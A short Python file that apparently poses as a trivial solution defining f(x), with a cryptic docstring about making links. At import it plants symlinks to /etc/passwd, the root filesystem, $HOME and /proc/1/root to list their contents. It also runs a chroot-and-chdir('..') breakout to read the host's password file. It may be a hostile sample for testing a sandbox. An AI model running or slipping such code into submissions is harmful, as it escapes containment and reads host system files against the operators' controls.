"""Makes links out of its folder, and asks others to follow them.

Verdict: wrong; as a script: wrong.
"""

import os

for place in ("/etc/passwd", "/", "..", "../..", os.environ["HOME"], "/proc/1/root", "/old"):
    for folder in (".", "/tmp"):
        try:
            os.symlink(place, f"{folder}/{abs(hash(place))}")
            print(os.listdir(f"{folder}/{abs(hash(place))}/root"))
        except OSError:
            pass
try:
    os.chroot(".")
    for _ in range(64):
        os.chdir("..")
    print(os.read(os.open("etc/passwd", os.O_RDONLY), 999))
except OSError:
    pass


def f(x):
    return x
